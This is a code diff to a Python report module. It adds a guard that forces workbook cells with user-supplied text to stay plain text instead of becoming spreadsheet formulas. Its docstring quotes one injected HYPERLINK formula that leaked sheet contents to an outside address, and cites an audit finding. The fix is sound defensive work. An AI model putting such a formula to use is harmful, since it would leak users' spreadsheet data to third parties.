@@ -3,6 +3,10 @@
 Both render :func:`clauses.spaser.tables.tables`. Charts are accessible through their data: in
 the workbook each chart sits beside the table it draws, in the report each table is the chart's
 data in full (no picture of figures without its figures).
+
+No cell of the workbook is a formula: openpyxl makes one of any text that starts with « = »,
+and the tables quote what buyers typed (a dossier renamed ``=HYPERLINK("http://…?"&A1)`` with
+a derogation became a live link leaking the sheet in « Dérogations »; issue 20, finding 6).
 """
 
 from __future__ import annotations
@@ -14,6 +18,7 @@ from openpyxl import Workbook
 from openpyxl.chart import BarChart, Reference
 from openpyxl.styles import Alignment, Font
 from openpyxl.utils import get_column_letter
+from openpyxl.worksheet.worksheet import Worksheet
 
 from clauses import french
 from clauses.drafting.report import report_bytes, report_writer
@@ -67,6 +72,7 @@ def _sheet(workbook: Workbook, table: Table, ind: Indicators) -> None:
     for c in range(2, len(table.header) + 1):
         sheet.column_dimensions[get_column_letter(c)].width = 18
     sheet.freeze_panes = "A3"
+    _text_only(sheet)
     if table.chart and table.rows:
         chart = BarChart()
         chart.type = "bar"  # horizontal bars: long category labels stay readable
@@ -78,6 +84,14 @@ def _sheet(workbook: Workbook, table: Table, ind: Indicators) -> None:
         chart.set_categories(Reference(sheet, min_col=1, min_row=3, max_row=last))
         chart.width, chart.height = 18, 3 + 1.2 * len(table.rows)
         sheet.add_chart(chart, f"{get_column_letter(len(table.header) + 2)}2")
+
+
+def _text_only(sheet: Worksheet) -> None:
+    """Every text cell stays a text, whatever it starts with."""
+    for row in sheet.iter_rows():
+        for cell in row:
+            if cell.data_type == "f":
+                cell.data_type = "s"
 
 
 def spaser_docx(ind: Indicators, library: Library, as_of: dt.date) -> bytes:
